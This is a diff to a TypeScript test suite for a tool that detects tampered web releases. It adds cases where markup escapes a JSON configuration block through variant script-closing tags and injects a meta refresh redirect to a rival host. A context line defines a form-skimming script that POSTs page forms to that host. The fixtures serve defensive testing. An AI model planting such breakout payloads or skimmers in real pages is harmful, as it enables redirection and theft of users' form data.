@@ -75,6 +75,22 @@ function changed(before: string, from: string | RegExp, to: string): string {
   return after;
 }
 
+/** Ways to end the configuration block that a browser knows beside `</script>`. Behind the last it goes on to the app's tag. */
+const BLOCK_ENDS = ['</SCRIPT>', '</script >', '</script/>', '</sCript\t>', '<!--<script>'];
+const inBlock = (end: string) =>
+  text(
+    /(id="kobo-config">)\s*\{/,
+    `id="kobo-config">{}${end}<meta http-equiv="refresh" content="0;url=${RIVAL}"><SCRIPT type="application/json">{`,
+  );
+const BLOCK_TABLE = BLOCK_ENDS.flatMap((end): [what: string, tamper: Tamper, names: FindingName[]][] => [
+  [
+    `markup in the configuration, behind ${end}`,
+    ofPage(inBlock(end)),
+    end.startsWith('<!') ? ['bytes-changed'] : ['meta-added', 'bytes-changed'],
+  ],
+  [`markup in that of who checks a receipt, behind ${end}`, ofFile(CHECK, inBlock(end)), ['bytes-changed']],
+]);
+
 const SKIMMER = `<script>fetch("${RIVAL}",{method:"POST",body:document.forms})</script>`;
 
 /** What is done to the release -> by which names it is found. */
@@ -391,11 +407,18 @@ const TABLE: [what: string, tamper: Tamper, names: FindingName[]][] = [
     onlyFor(agent(/Macintosh/), ofPage(without(CSP))),
     ['csp-missing', 'served-differently'],
   ],
+  ...BLOCK_TABLE,
 ];
 
 describe('a release that was tampered with', () => {
   it.each(TABLE)('is found: %s', async (_what, tamper, names) => {
     const { outcome, findings } = await check(tamper);
+    expect(outcome).toBe('differs');
+    expect([...new Set(findings.map(({ name }) => name))].sort()).toEqual([...names].sort());
+  });
+
+  it.each(BLOCK_TABLE)('is found where any settings will do: %s', async (_what, tamper, names) => {
+    const { outcome, findings } = await check(tamper, { anySettings: true });
     expect(outcome).toBe('differs');
     expect([...new Set(findings.map(({ name }) => name))].sort()).toEqual([...names].sort());
   });
